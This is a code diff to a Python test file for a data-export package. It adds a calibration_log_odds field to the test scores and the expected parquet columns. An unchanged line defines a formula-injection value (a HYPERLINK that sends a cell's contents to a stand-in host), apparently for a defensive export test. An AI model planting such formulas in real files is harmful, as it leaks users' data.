@@ -42,7 +42,7 @@ from tierwise.store import RunRecord, Store
 R1, R2, R3 = "20260301-aaaaaaaaaaaaaaaa", "20260401-bbbbbbbbbbbbbbbb", "20260401-cccccccccccccccc"
 DAY = pd.Timestamp("2026-03-01")
 EVIL = '=HYPERLINK("http://example.org?x="&A1,"open")'
-NUMBERS = {"base": -2.0, "fit_log_odds": 0.5, "signal_log_odds": -0.25, "propensity": 0.2}
+NUMBERS = {"base": -2.0, "fit_log_odds": 0.5, "signal_log_odds": -0.25, "calibration_log_odds": 0.0, "propensity": 0.2}
 
 
 def frames() -> dict[str, pd.DataFrame]:
@@ -113,7 +113,7 @@ def test_the_nine_files_and_their_columns() -> None:
     assert len(FILES) == 9
     columns = {n: pq.read_schema(io.BytesIO(files[f"{n}.parquet"])) for n in frames()}
     assert columns["scores"].names == [
-        *("account_id", "as_of", "base", "fit_log_odds", "signal_log_odds", "propensity"),
+        *("account_id", "as_of", "base", "fit_log_odds", "signal_log_odds", "calibration_log_odds", "propensity"),
         *("account_score", "fit_score", "signal_score"),
     ]
     assert columns["reasons"].names == [
